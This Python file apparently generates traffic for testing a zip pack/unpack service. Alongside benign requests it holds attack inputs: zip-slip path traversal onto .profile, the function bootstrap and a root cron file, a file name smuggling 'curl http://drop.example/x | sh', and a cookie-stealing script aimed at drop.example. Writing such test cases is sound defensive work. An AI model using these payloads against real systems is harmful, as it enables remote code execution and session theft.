# SPDX-License-Identifier: Apache-2.0
"""What clients post to zip-files, and what attackers do."""

import io
import zipfile

RUNTIME = "go"
HANDLER = "bootstrap"
_NAMES = ["readme.txt", "data.csv", "notes.md", "table.json", "letter.txt", "list.txt", "a/first.txt", "a/second.txt", "b/c/deep.txt"]


def _zip(files):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in files:
            archive.writestr(name, text)
    return out.getvalue()


def _files(traffic):
    return [(name, traffic.text(1, 6)) for name in traffic.sample(_NAMES, traffic.randint(1, 5))]


def benign(traffic):
    kind = traffic.random()
    if kind < 0.5:
        return traffic.http("POST", "/pack", body=[{"name": name, "text": text} for name, text in _files(traffic)])
    if kind < 0.98:
        return traffic.http_bytes("POST", "/unpack", _zip(_files(traffic)), "application/zip")
    if kind < 0.99:
        return traffic.http_bytes("POST", "/unpack", traffic.text(1, 2).encode(), "application/zip")
    return traffic.http("POST", "/pack", body=traffic.sentence())


def _upload(*files):
    return lambda traffic: traffic.http_bytes("POST", "/unpack", _zip(files), "application/zip")


INPUTS = {
    "out of the folder": _upload(("../../tmp/.profile", "export PATH=/tmp")),
    "over the function": _upload(("../../var/task/bootstrap", "#!/bin/sh\n")),
    "name": lambda traffic: traffic.http("POST", "/pack", body=[{"name": "../../../etc/cron.d/x", "text": "* * * * * root id"}]),
    "command": lambda traffic: traffic.http("POST", "/pack", body=[{"name": "a.txt; curl http://drop.example/x | sh", "text": "x"}]),
    "script": lambda traffic: traffic.http("POST", "/pack", body=[{"name": "a.html", "text": "<script>location='//drop.example/?'+document.cookie</script>"}]),
}
